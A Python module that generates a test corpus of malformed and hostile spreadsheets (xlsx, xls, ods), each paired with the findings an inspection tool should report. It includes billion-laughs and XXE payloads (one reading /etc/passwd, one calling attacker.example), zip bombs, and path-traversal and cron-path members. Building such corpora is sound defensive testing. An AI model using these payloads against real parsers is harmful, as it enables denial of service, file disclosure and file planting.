"""A corpus of broken and hostile spreadsheets, written byte for byte in code, each with what inspection must say."""

import shutil
import struct
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

MAIN_NS = (
    'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XLSB_MAIN = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
FIXED_TIME = (1980, 1, 1, 0, 0, 0)
CELLS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>ФИО</t></is></c></row><row r="2"><c r="A2"><v>1</v></c></row>'
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


@dataclass(frozen=True)
class Expected:
    codes: tuple[str, ...]  # finding codes, sorted
    readable: bool
    format: str = ""
    hidden: frozenset[str] = frozenset()
    formulas: dict = field(default_factory=dict)
    errors: dict = field(default_factory=dict)


def sheet_xml(cells: str = CELLS, dimension: str = "A1:A2", head: str = "", tail: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet {MAIN_NS}>{head}'
        f'<dimension ref="{dimension}"/><sheetData>{cells}</sheetData>{tail}</worksheet>'
    )


def xlsx_parts(sheets=None, *, main=XLSX_MAIN, shared: str | None = None, extra: dict | None = None) -> dict:
    """The parts of a minimal workbook; sheets are (title, sheet xml, state)."""
    sheets = sheets or [("Лист1", sheet_xml(), "")]
    overrides = [f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>']
    entries, rels, parts = [], [], {}
    for n, (title, xml, state) in enumerate(sheets, start=1):
        overrides.append(f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{SHEET_TYPE}"/>')
        state_attr = f' state="{state}"' if state else ""
        entries.append(f'<sheet name="{title}" sheetId="{n}"{state_attr} r:id="rId{n}"/>')
        rels.append(f'<Relationship Id="rId{n}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{n}.xml"/>')
        parts[f"xl/worksheets/sheet{n}.xml"] = xml
    if shared is not None:
        rels.append(f'<Relationship Id="rIdS" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>')
        parts["xl/sharedStrings.xml"] = f'<?xml version="1.0"?><sst {MAIN_NS}>{shared}</sst>'
    parts["[Content_Types].xml"] = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>' + "".join(overrides) + "</Types>"
    )
    parts["_rels/.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
        f'Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    parts["xl/workbook.xml"] = (
        f'<?xml version="1.0"?><workbook {MAIN_NS}><sheets>{"".join(entries)}</sheets></workbook>'
    )
    parts["xl/_rels/workbook.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}">{"".join(rels)}</Relationships>'
    )
    parts.update(extra or {})
    return parts


def zip_bytes(parts: dict | list, path: Path) -> bytes:
    """Write the parts as a deterministic zip (fixed times, given order) and return its bytes."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are one of the defects written on purpose
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in parts if isinstance(parts, list) else parts.items():
                info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
                info.compress_type = zipfile.ZIP_DEFLATED
                info.external_attr = 0o644 << 16
                archive.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return path.read_bytes()


def _directory_entry(data: bytes, name: str) -> int:
    """The offset of a member's central directory entry, walked from the end-of-directory record."""
    end = data.rindex(b"PK\x05\x06")
    count, _size, at = struct.unpack_from("<HII", data, end + 10)
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, at + 28)
        if data[at + 46 : at + 46 + name_length] == name.encode():
            return at
        at += 46 + name_length + extra_length + comment_length
    raise KeyError(name)


def patch_member(path: Path, name: str, *, size=None, offset_of=None, method=None, flags=None):
    """Forge a member's declared size, local header offset or compression method in place."""
    data = bytearray(path.read_bytes())
    entry = _directory_entry(bytes(data), name)
    local = struct.unpack_from("<I", data, entry + 42)[0]
    if size is not None:
        struct.pack_into("<I", data, entry + 24, size)
        struct.pack_into("<I", data, local + 22, size)
    if flags is not None:  # the zip module resets flags on writing, so the encryption bit is set afterwards
        struct.pack_into("<H", data, entry + 8, flags)
        struct.pack_into("<H", data, local + 6, flags)
    if method is not None:
        struct.pack_into("<H", data, entry + 10, method)
        struct.pack_into("<H", data, local + 8, method)
    if offset_of is not None:
        other = _directory_entry(bytes(data), offset_of)
        struct.pack_into("<I", data, entry + 42, struct.unpack_from("<I", data, other + 42)[0])
    path.write_bytes(bytes(data))


def compound_file(streams: list[tuple[str, bytes]]) -> bytes:
    """A minimal OLE compound file (version 3, 512-byte sectors, every stream at least 4096 bytes)."""
    sector, end, free = 512, 0xFFFFFFFE, 0xFFFFFFFF
    assert len(streams) <= 3 and all(len(data) >= 4096 for _, data in streams)
    fat, body, starts = [0xFFFFFFFD, end], b"", []
    for _name, data in streams:
        padded = data + b"\x00" * (-len(data) % sector)
        first = len(fat)
        count = len(padded) // sector
        fat += [first + i + 1 for i in range(count - 1)] + [end]
        starts.append(first)
        body += padded
    fat += [free] * (sector // 4 - len(fat))
    header = bytearray(sector)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end)
    struct.pack_into("<I", header, 72, 0)
    struct.pack_into("<109I", header, 76, 0, *([free] * 108))
    directory = bytearray(sector)
    entries = [("Root Entry", 5, end, 0)] + [
        (n, 2, s, len(d)) for (n, d), s in zip(streams, starts, strict=True)
    ]
    for i, (name, kind, start, size) in enumerate(entries):
        at = i * 128
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory[at : at + len(encoded)] = encoded
        struct.pack_into("<HBB", directory, at + 64, len(encoded), kind, 1)
        left, right, child = free, (i + 1 if 0 < i < len(entries) - 1 else free), (1 if i == 0 else free)
        struct.pack_into("<III", directory, at + 68, left, right, child)
        struct.pack_into("<IQ", directory, at + 116, start, size)
    return bytes(header) + struct.pack(f"<{sector // 4}I", *fat) + bytes(directory) + body


def biff_workbook(encrypted: bool = False) -> bytes:
    bof = struct.pack("<HH", 0x0809, 16) + struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206)
    filepass = struct.pack("<HH", 0x002F, 6) + struct.pack("<HHH", 1, 1, 1) if encrypted else b""
    records = bof + filepass + struct.pack("<HH", 0x000A, 0)
    return records + b"\x00" * (4096 - len(records))


def ods_bytes(
    path: Path,
    body: str,
    styles: str = "",
    mimetype="application/vnd.oasis.opendocument.spreadsheet",
    manifest_extra: str = "",
    prolog: str = '<?xml version="1.0" encoding="UTF-8"?>',
) -> bytes:
    content = (
        f"{prolog}<office:document-content "
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0">'
        f"<office:automatic-styles>{styles}</office:automatic-styles>"
        f"<office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">{manifest_extra}'
        "</manifest:file-entry></manifest:manifest>"
    )
    return zip_bytes(
        [("mimetype", mimetype), ("content.xml", content), ("META-INF/manifest.xml", manifest)], path
    )


def ods_table(name: str, rows: str, style: str = "") -> str:
    style_attr = f' table:style-name="{style}"' if style else ""
    return f'<table:table table:name="{name}"{style_attr}>{rows}</table:table>'


ODS_ROWS = (
    '<table:table-row><table:table-cell office:value-type="string"><text:p>ФИО</text:p></table:table-cell>'
    "</table:table-row>"
    '<table:table-row><table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p>'
    "</table:table-cell></table:table-row>"
)
HIDDEN_TABLE_STYLE = '<style:style style:name="ta2" style:family="table"><style:table-properties table:display="false"/></style:style>'
ERROR_CELL = (
    '<table:table-row><table:table-cell table:formula="of:=1/0" office:value-type="string" '
    'office:string-value="" calcext:value-type="error"><text:p>#DIV/0!</text:p></table:table-cell></table:table-row>'
)
LIBREOFFICE_TAIL = (
    '<table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="1024"/>'
    "</table:table-row>"
)


def _sheet(cells: str, **options) -> dict:
    return xlsx_parts([("Лист1", sheet_xml(cells, **options), "")])


def _files(tmp: Path) -> dict[str, tuple[Expected, object]]:
    """name -> (expected, writer(path)); each writer puts exactly its defect into an otherwise sound file."""
    big_text = "x" * 40_000
    ok_cyrillic = "я" * 20_000
    spaces = " " * (5 * 2**20)
    formula_cells = '<row r="2"><c r="A2"><v>1</v></c><c r="B2"><f>A2*2</f></c></row>'
    div_cells = '<row r="2"><c r="A2"><v>0</v></c><c r="B2" t="e"><f>1/A2</f><v>#DIV/0!</v></c></row>'
    x = Expected
    return {
        # sound files: nothing to say
        "valid-minimal.xlsx": (x((), True, "xlsx"), lambda p: zip_bytes(xlsx_parts(), p)),
        "valid-long-cyrillic-string.xlsx": (
            x((), True, "xlsx"),
            lambda p: zip_bytes(xlsx_parts(shared=f"<si><t>{ok_cyrillic}</t></si>"), p),
        ),
        "valid-prefixed-namespace.xlsx": (
            x((), True, "xlsx", formulas={"Лист1": {"B2": True}}),
            lambda p: zip_bytes(xlsx_parts([("Лист1", _prefixed_sheet(), "")]), p),
        ),
        "valid-xls.xls": (
            x((), True, "xls"),
            lambda p: p.write_bytes(compound_file([("Workbook", biff_workbook())])),
        ),
        "valid-libreoffice-tail.ods": (
            x((), True, "ods"),
            lambda p: ods_bytes(p, ods_table("Лист1", ODS_ROWS + LIBREOFFICE_TAIL)),
        ),
        # entities and DTDs anywhere
        "billion-laughs.xlsx": (
            x(("xml_entities",), False, "xlsx"),
            lambda p: zip_bytes(
                _with(
                    _sheet(CELLS), "xl/worksheets/sheet1.xml", lambda s: BILLION_LAUGHS + s.split("\n", 1)[1]
                ),
                p,
            ),
        ),
        "external-entity.xlsx": (
            x(("xml_entities",), False),
            lambda p: zip_bytes(
                xlsx_parts(shared="<si><t>&xxe;</t></si>")
                | {
                    "xl/sharedStrings.xml": '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                    f"<sst {MAIN_NS}><si><t>&xxe;</t></si></sst>"
                },
                p,
            ),
        ),
        "doctype-in-content-types.xlsx": (
            x(("xml_entities",), False),
            lambda p: zip_bytes(
                _with(
                    xlsx_parts(),
                    "[Content_Types].xml",
                    lambda s: s.replace("<Types", "<!DOCTYPE Types><Types", 1),
                ),
                p,
            ),
        ),
        "external-entity-in-rels.xlsx": (
            x(("xml_entities",), False),
            lambda p: zip_bytes(
                _with(
                    xlsx_parts(),
                    "_rels/.rels",
                    lambda s: s.replace(
                        "<Relationships",
                        '<!DOCTYPE r [<!ENTITY e SYSTEM "http://attacker.example/x">]><Relationships',
                        1,
                    ),
                ),
                p,
            ),
        ),
        "utf16-entity-sheet.xlsx": (
            x(("xml_entities",), False, "xlsx"),
            lambda p: zip_bytes(
                _with(
                    _sheet(CELLS),
                    "xl/worksheets/sheet1.xml",
                    lambda s: (
                        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "aaaa">]>'
                        + s.split("\n", 1)[1]
                    ).encode("utf-16"),
                ),
                p,
            ),
        ),
        "ods-with-entities.ods": (
            x(("xml_entities",), False),
            lambda p: ods_bytes(p, ods_table("Лист1", ODS_ROWS), prolog=BILLION_LAUGHS),
        ),
        # zip bombs and zip tricks
        "zip-bomb-ratio.xlsx": (
            x(("zip_bomb",), False),
            lambda p: zip_bytes(_sheet(CELLS, tail=spaces), p),
        ),
        "zip-bomb-declared-size.xlsx": (x(("zip_bomb",), False), lambda p: _forged(p, size=600 * 2**20)),
        "zip-size-lie.xlsx": (x(("file_unreadable",), False, "xlsx"), lambda p: _forged(p, size=100)),
        "zip-overlapping-members.xlsx": (
            x(("zip_bomb",), False),
            lambda p: (
                zip_bytes(xlsx_parts(), p),
                patch_member(p, "xl/_rels/workbook.xml.rels", offset_of="xl/workbook.xml"),
            ),
        ),
        "too-many-members.xlsx": (
            x(("too_many_members",), False),
            lambda p: zip_bytes(xlsx_parts(extra={f"xl/media/image{i}.png": b"" for i in range(2001)}), p),
        ),
        "path-traversal-member.xlsx": (
            x(("zip_suspicious_member",), False),
            lambda p: zip_bytes(xlsx_parts(extra={"../../../../tmp/evil.sh": "echo pwned"}), p),
        ),
        "absolute-path-member.xlsx": (
            x(("zip_suspicious_member",), False),
            lambda p: zip_bytes(xlsx_parts(extra={"/etc/cron.d/evil": "* * * * * root true"}), p),
        ),
        "nested-zip.xlsx": (
            x(("zip_suspicious_member",), False),
            lambda p: zip_bytes(
                xlsx_parts(extra={"xl/payload.zip": zip_bytes(xlsx_parts(), tmp / "inner.zip")}), p
            ),
        ),
        "duplicate-member-names.xlsx": (
            x(("zip_suspicious_member",), False),
            lambda p: zip_bytes(
                list(xlsx_parts().items()) + [("xl/worksheets/sheet1.xml", sheet_xml("", "A1"))], p
            ),
        ),
        "zip-member-password.xlsx": (
            x(("file_encrypted",), False),
            lambda p: (zip_bytes(xlsx_parts(), p), patch_member(p, "xl/worksheets/sheet1.xml", flags=0x1)),
        ),
        "unknown-compression-method.xlsx": (
            x(("file_unreadable",), False),
            lambda p: (zip_bytes(xlsx_parts(), p), patch_member(p, "xl/worksheets/sheet1.xml", method=99)),
        ),
        "truncated-zip.xlsx": (
            x(("file_unreadable",), False),
            lambda p: p.write_bytes(zip_bytes(xlsx_parts(), p)[:700]),
        ),
        # absurd ranges and giant cells
        "dimension-xfd1048576.xlsx": (
            x(("absurd_range",), False, "xlsx"),
            lambda p: zip_bytes(_sheet(CELLS, dimension="A1:XFD1048576"), p),
        ),
        "million-rows.xlsx": (
            x(("absurd_range",), False, "xlsx"),
            lambda p: zip_bytes(
                _sheet('<row r="1000000"><c r="A1000000"><v>1</v></c></row>', dimension="A1"), p
            ),
        ),
        "cell-beyond-columns.xlsx": (
            x(("absurd_range",), False, "xlsx"),
            lambda p: zip_bytes(_sheet('<row r="1"><c r="KO1"><v>1</v></c></row>', dimension="A1"), p),
        ),
        "too-many-row-elements.xlsx": (
            x(("absurd_range",), False, "xlsx"),
            lambda p: zip_bytes(
                _sheet("".join(f"<row><c><v>{i}</v></c></row>" for i in range(200_001)), dimension="A1"), p
            ),
        ),
        "sparse-far-cell.xlsx": (  # within every limit, yet a dense grid of 60 million cells for the parser
            x((), True, "xlsx"),
            lambda p: zip_bytes(
                _sheet(
                    '<row r="1"><c r="A1" t="inlineStr"><is><t>ФИО</t></is></c></row>'
                    '<row r="200000"><c r="KN200000"><v>1</v></c></row>',
                    dimension="A1:KN200000",
                ),
                p,
            ),
        ),
        "giant-shared-string.xlsx": (
            x(("giant_cell",), False, "xlsx"),
            lambda p: zip_bytes(xlsx_parts(shared=f"<si><t>{big_text}</t></si>"), p),
        ),
        "giant-rich-text-string.xlsx": (
            x(("giant_cell",), False, "xlsx"),
            lambda p: zip_bytes(
                xlsx_parts(shared="<si>" + f"<r><t>{big_text[:10_000]}</t></r>" * 4 + "</si>"), p
            ),
        ),
        "giant-inline-string.xlsx": (
            x(("giant_cell",), False, "xlsx"),
            lambda p: zip_bytes(
                _sheet(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{big_text}</t></is></c></row>'), p
            ),
        ),
        # active content: warned about, never run; the file is read
        "vba-macro.xlsm": (
            x(("macros_ignored",), True, "xlsm"),
            lambda p: zip_bytes(
                xlsx_parts(main=XLSM_MAIN, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), p
            ),
        ),
        "vba-macro-renamed.xlsx": (
            x(("file_suffix_mismatch", "macros_ignored"), True, "xlsm"),
            lambda p: zip_bytes(
                xlsx_parts(main=XLSM_MAIN, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), p
            ),
        ),
        "external-link.xlsx": (
            x(("external_links",), True, "xlsx"),
            lambda p: zip_bytes(
                xlsx_parts(extra={"xl/externalLinks/externalLink1.xml": f"<externalLink {MAIN_NS}/>"}), p
            ),
        ),
        "embedded-ole.xlsx": (
            x(("embedded_objects",), True, "xlsx"),
            lambda p: zip_bytes(
                _with(
                    _sheet(CELLS, tail='<oleObjects><oleObject progId="Package" r:id="rId9"/></oleObjects>'),
                    "xl/embeddings/oleObject1.bin",
                    lambda _s: b"\xd0\xcf\x11\xe0ole",
                ),
                p,
            ),
        ),
        "activex.xlsx": (
            x(("activex",), True, "xlsx"),
            lambda p: zip_bytes(
                _with(
                    _sheet(CELLS, tail='<controls><control shapeId="1025" r:id="rId8"/></controls>'),
                    "xl/activeX/activeX1.xml",
                    lambda _s: '<ax:ocx xmlns:ax="urn:x"/>',
                ),
                p,
            ),
        ),
        # formulas, errors, hidden sheets: located for the reader, reported by it cell by cell
        "formula-without-cached-value.xlsx": (
            x((), True, "xlsx", formulas={"Лист1": {"B2": False}}),
            lambda p: zip_bytes(_sheet(formula_cells, dimension="A2:B2"), p),
        ),
        "div-by-zero.xlsx": (
            x((), True, "xlsx", formulas={"Лист1": {"B2": True}}, errors={"Лист1": {"B2": "#DIV/0!"}}),
            lambda p: zip_bytes(_sheet(div_cells, dimension="A2:B2"), p),
        ),
        "hidden-sheet.xlsx": (
            x((), True, "xlsx", hidden=frozenset({"Скрытый"})),
            lambda p: zip_bytes(
                xlsx_parts([("Лист1", sheet_xml(), ""), ("Скрытый", sheet_xml(), "hidden")]), p
            ),
        ),
        "very-hidden-sheet.xlsx": (
            x((), True, "xlsx", hidden=frozenset({"Тайный"})),
            lambda p: zip_bytes(
                xlsx_parts([("Лист1", sheet_xml(), ""), ("Тайный", sheet_xml(), "veryHidden")]), p
            ),
        ),
        # broken structure
        "not-xml-sheet.xlsx": (
            x(("file_unreadable",), False, "xlsx"),
            lambda p: zip_bytes(
                _with(xlsx_parts(), "xl/worksheets/sheet1.xml", lambda _s: bytes(range(256)) * 8), p
            ),
        ),
        "malformed-workbook-xml.xlsx": (
            x(("file_unreadable",), False, "xlsx"),
            lambda p: zip_bytes(_with(xlsx_parts(), "xl/workbook.xml", lambda s: s[: len(s) // 2]), p),
        ),
        "missing-workbook-part.xlsx": (
            x(("file_unreadable",), False, "xlsx"),
            lambda p: zip_bytes({k: v for k, v in xlsx_parts().items() if k != "xl/workbook.xml"}, p),
        ),
        # encrypted and legacy compound files
        "encrypted-ooxml.xlsx": (
            x(("file_encrypted",), False),
            lambda p: p.write_bytes(
                compound_file(
                    [("EncryptionInfo", b"\x04\x00\x04\x00" * 1024), ("EncryptedPackage", b"\x5a" * 8192)]
                )
            ),
        ),
        "encrypted-xls.xls": (
            x(("file_encrypted",), False),
            lambda p: p.write_bytes(compound_file([("Workbook", biff_workbook(encrypted=True))])),
        ),
        "xls-renamed-xlsx.xlsx": (
            x(("file_suffix_mismatch",), True, "xls"),
            lambda p: p.write_bytes(compound_file([("Workbook", biff_workbook())])),
        ),
        "word-doc-renamed.xls": (
            x(("file_format_unsupported",), False),
            lambda p: p.write_bytes(compound_file([("WordDocument", b"\xec\xa5" * 2048)])),
        ),
        "broken-compound-file.xls": (
            x(("file_unreadable",), False),
            lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2000),
        ),
        # not spreadsheets at all
        "csv-renamed.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: p.write_bytes("ФИО;Год рождения\nИванов Иван;1980\nПетрова Анна;1975\n".encode()),
        ),
        "csv-cp1251-renamed.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: p.write_bytes("ФИО;Год рождения\nИванов Иван;1980\n".encode("cp1251")),
        ),
        "png-renamed.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64),
        ),
        "pdf-renamed.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: p.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        ),
        "html-renamed.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: p.write_bytes(
                "<html><body><table><tr><td>ФИО</td></tr></table></body></html>".encode()
            ),
        ),
        "spreadsheetml-2003.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: p.write_bytes(
                b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
            ),
        ),
        "empty-file.xlsx": (x(("file_format_unsupported",), False), lambda p: p.write_bytes(b"")),
        "docx-renamed.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: zip_bytes(
                _with(xlsx_parts(), "[Content_Types].xml", lambda s: s.replace(XLSX_MAIN, DOCX_MAIN)), p
            ),
        ),
        "xlsb-renamed.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: zip_bytes(
                _with(xlsx_parts(), "[Content_Types].xml", lambda s: s.replace(XLSX_MAIN, XLSB_MAIN)), p
            ),
        ),
        "plain-zip-renamed.xlsx": (
            x(("file_format_unsupported",), False),
            lambda p: zip_bytes({"report.txt": "Отчёт", "data.csv": "a;b\n1;2\n"}, p),
        ),
        "odt-renamed.ods": (
            x(("file_format_unsupported",), False),
            lambda p: ods_bytes(p, "", mimetype="application/vnd.oasis.opendocument.text"),
        ),
        # OpenDocument
        "ods-hidden-sheet.ods": (
            x((), True, "ods", hidden=frozenset({"Скрытый"})),
            lambda p: ods_bytes(
                p, ods_table("Лист1", ODS_ROWS) + ods_table("Скрытый", ODS_ROWS, "ta2"), HIDDEN_TABLE_STYLE
            ),
        ),
        "ods-formula-error.ods": (
            x((), True, "ods", formulas={"Лист1": {"A3": True}}, errors={"Лист1": {"A3": "#DIV/0!"}}),
            lambda p: ods_bytes(p, ods_table("Лист1", ODS_ROWS + ERROR_CELL)),
        ),
        "ods-million-repeated-rows.ods": (
            x(("absurd_range",), False, "ods"),
            lambda p: ods_bytes(
                p,
                ods_table(
                    "Лист1",
                    ODS_ROWS.replace(
                        "<table:table-row>", '<table:table-row table:number-rows-repeated="1000000">', 1
                    ),
                ),
            ),
        ),
        "ods-encrypted.ods": (
            x(("file_encrypted",), False, "ods"),
            lambda p: ods_bytes(
                p,
                ods_table("Лист1", ODS_ROWS),
                manifest_extra='<manifest:encryption-data manifest:checksum="x"/>',
            ),
        ),
    }


def _with(parts: dict, name: str, change) -> dict:
    parts = dict(parts)
    parts[name] = change(parts.get(name, ""))
    return parts


def _prefixed_sheet() -> str:
    return (
        '<?xml version="1.0"?><x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<x:dimension ref="A1:B2"/><x:sheetData><x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row>'
        '<x:row r="2"><x:c r="B2"><x:f>A1+1</x:f><x:v>2</x:v></x:c></x:row></x:sheetData></x:worksheet>'
    )


def _forged(path: Path, size: int) -> None:
    zip_bytes(_sheet(CELLS * 50), path)
    patch_member(path, "xl/worksheets/sheet1.xml", size=size)


EXPECTED: dict[str, Expected] = {name: expected for name, (expected, _writer) in _files(Path(".")).items()}


def write_corpus(directory: Path) -> dict[str, Path]:
    """Write every corpus file into the directory; the same bytes on every run."""
    directory.mkdir(parents=True, exist_ok=True)
    scratch = directory / ".scratch"
    scratch.mkdir(exist_ok=True)
    written = {}
    for name, (_expected, writer) in _files(scratch).items():
        path = directory / name
        writer(path)
        written[name] = path
    shutil.rmtree(scratch)
    return written
